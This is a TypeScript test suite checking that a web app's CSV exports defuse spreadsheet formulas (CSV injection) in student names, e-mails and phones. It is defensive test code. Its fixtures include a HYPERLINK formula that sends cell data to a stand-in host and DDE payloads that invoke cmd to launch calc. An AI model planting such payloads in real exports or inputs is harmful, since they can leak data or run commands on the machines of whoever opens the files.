/**
 * The CSV exports (web/src/lib/csv.ts) defuse every cell a spreadsheet would read as a formula: a
 * text starting with =, +, -, @, a tab or a carriage return gets a leading apostrophe (OWASP's
 * "CSV injection"). The student types their name, e-mail and phone; the sales and quiz results
 * files carry them.
 */
import { salesCsv } from '@/features/payments/lib/sales';
import { resultsCsv } from '@/features/quizzes/lib/admin-quiz-results';
import { csvField } from '@/lib/csv';
import { salesReport } from './commerce-fixtures';

const OPENERS = [
  ['=', '=HYPERLINK("http://x.test?"&A1,"Click")', `"'=HYPERLINK(""http://x.test?""&A1,""Click"")"`],
  ['+', '+201012345678', "'+201012345678"],
  ['-', '-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
  ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
  ['tab', '\t=1+1', "'\t=1+1"],
  ['CR', '\r=1+1', `"'\r=1+1"`],
] as const;

describe('csvField', () => {
  it.each(OPENERS)('defuses a text starting with %s', (_opener, text, expected) => {
    expect(csvField(text)).toBe(expected);
  });

  it('leaves other texts and numbers as they are (a negative number is a number, not a formula)', () => {
    expect(csvField('منى حسن')).toBe('منى حسن');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(-5)).toBe('-5');
    expect(csvField(100)).toBe('100');
    expect(csvField(null)).toBe('');
  });
});

describe('the exports defuse what a student typed', () => {
  it.each(OPENERS)('sales: name, e-mail and phone starting with %s', (_opener, text, expected) => {
    const [first] = salesReport().orders;
    const csv = salesCsv([{ ...first!, studentName: text, studentEmail: text, studentPhone: text }] as never, { headers: ['h'], status: (s) => s, method: (m) => m ?? '-' });
    const row = csv.slice(1).split('\r\n').slice(1).join('\r\n');
    expect(row.startsWith(`2026-03-02T09:00:00.000Z,${expected},${expected},${expected},`)).toBe(true);
  });

  it.each(OPENERS)('quiz results: a student name starting with %s', (_opener, text, expected) => {
    const csv = resultsCsv([{ userId: 'u1', studentName: text, score: '80%', attempts: 1, performance: 'good', passed: true }] as never, ['#', 'Student'], { band: (b) => b, passed: (p) => String(p) });
    expect(csv).toBe(`\uFEFF#,Student\r\n1,${expected},80%,good,1,true,,\r\n`);
  });
});
